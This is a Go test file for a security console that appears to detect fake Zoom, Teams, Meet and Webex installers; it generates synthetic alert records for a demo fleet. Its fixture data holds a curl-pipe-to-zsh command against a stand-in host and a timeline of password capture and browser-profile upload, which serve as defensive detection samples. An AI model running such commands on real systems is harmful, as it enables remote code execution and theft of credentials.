package collect

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/http"
	"testing"
	"time"

	"meetguard/internal/people"
	"meetguard/internal/store"
)

// specimen is what the tests of the console make a record of. All of it is text: no
// such file exists.
type specimen struct {
	uid, level, brand, rule, file, path, host, signature, signer, issuer, user string
	score                                                                      int
	reasons                                                                    []string
	ran, stole                                                                 bool
	landed                                                                     time.Duration // before it was found
}

func (l specimen) sha256() string {
	sum := sha256.Sum256([]byte(l.file + l.path))
	return hex.EncodeToString(sum[:])
}

// record renders the specimen as an agent does.
func (l specimen) record(hostname string, now time.Time) string {
	file := map[string]any{"name": l.file, "path": l.path + l.file, "type_id": 1, "size": 5_391_360}
	if l.issuer != "" {
		file["signature"] = map[string]any{"state_id": 6, "state": "Untrusted", "certificate": map[string]any{"subject": l.signer, "issuer": l.issuer, "serial_number": "4a:11:09"}}
	}
	evidence := map[string]any{"file": file}
	unmapped := map[string]any{
		"mg_level": l.level, "mg_brand": l.brand, "mg_rule": l.rule, "mg_score": l.score, "mg_path": l.path + l.file, "mg_sha256": l.sha256(),
		"mg_format": "pe", "mg_signature": l.signature, "mg_signer": l.signer, "mg_source_host": l.host, "mg_user": l.user, "mg_reasons": l.reasons,
	}
	attacks := []any{map[string]any{"tactic": map[string]any{"uid": "TA0005", "name": "Defense Evasion"}, "technique": map[string]any{"uid": "T1036", "name": "Masquerading"},
		"sub_technique": map[string]any{"uid": "T1036.005", "name": "Match Legitimate Resource Name or Location"}}}
	if l.ran {
		evidence["process"] = map[string]any{"pid": 4711, "name": "zsh", "file": map[string]any{"path": "/bin/zsh"}, "ancestry": []any{
			map[string]any{"pid": 812, "name": "Terminal", "path": "/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal"}, map[string]any{"pid": 1, "name": "launchd", "path": "/sbin/launchd"}}}
		unmapped["mg_pid"] = 4711
		unmapped["mg_command_line"] = "zsh -c 'curl -fsSL https://support-meet.invalid/… | zsh'"
	}
	rules, weights := []string{l.rule, "MG-ORIGIN-LOOKALIKE", "MG-ICON"}, []int{60, 25, 10}
	unmapped["mg_rules"], unmapped["mg_weights"] = rules[:len(l.reasons)], weights[:len(l.reasons)]
	if l.stole {
		unmapped["mg_story"] = []string{
			"09:14:02 /System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal (812)",
			"09:14:31 /usr/bin/curl (4711): fetch and run support-meet.invalid zsh",
			"09:14:33 /usr/bin/osascript (4722): ask password",
			"09:14:52 /usr/bin/dscl (4730): check password",
			"09:14:58 /usr/bin/ditto (4741): take secret browser profiles /tmp/out",
			"09:15:09 /usr/bin/curl (4750): upload support-meet.invalid /tmp/out.zip",
		}
		attacks = append(attacks, map[string]any{"tactic": map[string]any{"uid": "TA0006", "name": "Credential Access"}, "technique": map[string]any{"uid": "T1056", "name": "Input Capture"},
			"sub_technique": map[string]any{"uid": "T1056.002", "name": "GUI Input Capture"}})
	}
	title := "Fake " + brandName(l.brand) + " installer"
	if l.level == "incomplete" {
		title = "Could not judge archive"
		unmapped["mg_gaps"] = []string{"members: the archive has a password", "signature: not read"}
	}
	finding := map[string]any{"uid": "f-" + l.uid, "title": title + ": " + l.reasons[0], "created_time": now.UnixMilli(), "attacks": attacks, "data_sources": []string{"fsnotify"},
		"related_analytics": []any{map[string]any{"type_id": 1, "uid": "MG-NAME-LOOKALIKE"}, map[string]any{"type_id": 1, "uid": "yara:mg_installer_stub"}}}
	if l.landed > 0 {
		finding["first_seen_time"] = now.Add(-l.landed).UnixMilli()
	}
	raw, _ := json.Marshal(map[string]any{
		"class_uid": 2004, "severity_id": map[string]int{"malicious": 4, "suspicious": 3, "incomplete": 2}[l.level], "time": now.UnixMilli(),
		"metadata": map[string]any{"uid": l.uid, "version": "1.8.0"}, "finding_info": finding, "device": map[string]any{"hostname": hostname},
		"evidences": []any{evidence}, "unmapped": unmapped,
		"remediation": map[string]any{"desc": "User: do not open it. Administrator: look for its SHA-256 on other computers."},
	})
	return string(raw)
}

// specimens are the shapes of lures that the pages show.
var specimens = []specimen{
	{level: "malicious", brand: "zoom", rule: "MG-BRAND-UNSIGNED", file: "ZoomInstallerFull.exe", path: `C:\Users\ana\Downloads\`, host: "zoom-us-join.invalid", signature: "unsigned", user: `CORP\ana`, score: 92, landed: 4 * time.Second,
		reasons: []string{"It calls itself Zoom Meetings in its version resource, and nobody signed it.", "It came from zoom-us-join.invalid, which looks like zoom.us and is not Zoom's.", "Its icon is Zoom's."}},
	{level: "malicious", brand: "googlemeet", rule: "MG-PASTE-FETCH-RUN", file: "zsh", path: "/bin/", host: "", signature: "valid", signer: "Software Signing", user: "kim", score: 97, ran: true, stole: true,
		reasons: []string{"A pasted command fetched a script from support-meet.invalid and ran it unseen.", "What it started asked for the password of the user in a window of its own and checked it.", "It packed browser profiles and sent them away."}},
	{level: "suspicious", brand: "msteams", rule: "MG-SIGNER-OTHER", file: "Teams_windows_x64.msi", path: `C:\Users\joe\Downloads\`, host: "teams-download.invalid", signature: "untrusted", signer: "Fast Corporate Software GmbH", issuer: "Fast Corporate Root CA", user: `CORP\joe`, score: 61, landed: 11 * time.Second,
		reasons: []string{"It calls itself Microsoft Teams and is signed by Fast Corporate Software GmbH, not by Microsoft.", "The chain of its signature ends at nobody whom Windows trusts."}},
	{level: "incomplete", brand: "webex", rule: "MG-ARCHIVE-LOCKED", file: "Webex_Invite_2026.zip", path: "/home/li/Downloads/", host: "files.webex-invite.invalid", signature: "unknown", user: "li", score: 40, landed: 25 * time.Second,
		reasons: []string{"The archive has a password, and its name promises Webex."}},
}

// demo fills a site with a small fleet and some weeks of alerts.
func (f *fleetSite) demo(t *testing.T) []*testDevice {
	t.Helper()
	var all []*testDevice
	for i := range 6 {
		d := f.newDevice()
		d.enrolAs(t, f.tokenFor(t, []string{"sales", "engineering", "finance"}[i%3]), fmt.Sprintf("LT-%04d", 41+i))
		all = append(all, d)
	}
	for week := 11; week >= 0; week-- {
		at := f.clock().AddDate(0, 0, -7*week).Add(-time.Duration(week+3) * time.Minute)
		for i, l := range specimens {
			if (week+i)%(i+1) != 0 {
				continue
			}
			for n := range 1 + (week*7+i)%3 {
				l.uid = fmt.Sprintf("w%d-%d-%d", week, i, n)
				all[(n+i+week)%len(all)].past(t, l, at.Add(time.Duration(n)*time.Hour*-5))
			}
		}
	}
	for i, d := range all {
		state, detail := "ok", ""
		if i == 2 {
			state, detail = "degraded", "inotify: too few watches, 3 folders are swept instead"
		}
		beat := map[string]any{"seq": 9, "head": "", "interval_s": 60, "machine_id": "m" + d.hostname(t), "boot_id": "b", "status": map[string]any{
			"sources":  []any{map[string]any{"name": "files", "state": state, "detail": detail}, map[string]any{"name": "launches", "state": "ok", "detail": "proc connector"}},
			"counters": map[string]any{"file_events": 18213 + i, "files_judged": 902, "exec_events": 55120, "alerts": 3}}}
		d.want(200, "", "/v1/agent/batch", d.batchAs(t, beat))
	}
	f.srv.flushBeats(t.Context())
	return all
}

// past stores an alert as it was taken at a time before now.
func (d *testDevice) past(t *testing.T, l specimen, at time.Time) {
	t.Helper()
	a, err := d.f.store.Agent(t.Context(), store.Everything, d.uid)
	if err == nil {
		_, err = d.f.store.Save(t.Context(), store.Batch{Agent: a.Agent, ReceivedAt: at, Records: []store.Record{ParseRecord([]byte(l.record(a.Hostname, at)))}, Own: true})
	}
	if err != nil {
		t.Fatal(err)
	}
}

func (f *fleetSite) tokenFor(t *testing.T, group string) string {
	t.Helper()
	secret, err := NewToken(t.Context(), f.store, store.Token{Group: group, Note: "laptops of " + group, CreatedBy: "admin", CreatedAt: f.clock(), ExpiresAt: f.clock().Add(time.Hour), MaxUses: 50})
	if err != nil {
		t.Fatal(err)
	}
	return secret
}

func (d *testDevice) enrolAs(t *testing.T, secret, hostname string) {
	t.Helper()
	status, text := d.send("/v1/agent/enroll", map[string]any{"token": secret, "csr": d.csr(), "machine_id": "m" + hostname, "boot_id": "b",
		"agent": map[string]string{"uid": "label", "hostname": hostname, "os": "windows", "version": "1.4.0", "rules_version": "2026.11.20"}})
	if status != http.StatusOK {
		t.Fatalf("enrol %s: %d %s", hostname, status, text)
	}
	d.take(text)
}

func (d *testDevice) hostname(t *testing.T) string {
	t.Helper()
	a, err := d.f.store.Agent(t.Context(), store.Everything, d.uid)
	if err != nil {
		t.Fatal(err)
	}
	return a.Hostname
}

func (d *testDevice) batchAs(t *testing.T, beat map[string]any, records ...string) map[string]any {
	b := batch(beat, records...)
	b["agent"] = map[string]string{"uid": "label", "hostname": d.hostname(t), "os": "windows", "version": "1.4.0", "rules_version": "2026.11.20"}
	return b
}

const testPassword = "correct horse battery 9 staple"

// account makes an account that can log in.
func (f *fleetSite) account(t *testing.T, name string, role people.Role, groups ...string) store.User {
	t.Helper()
	hash, err := f.srv.hasher.Hash(t.Context(), testPassword)
	if err != nil {
		t.Fatal(err)
	}
	u := store.User{ID: store.NewID(), Name: name, Role: string(role), Groups: groups, PasswordHash: hash, CreatedAt: f.clock()}
	if err := f.store.CreateUser(t.Context(), u); err != nil {
		t.Fatal(err)
	}
	return u
}
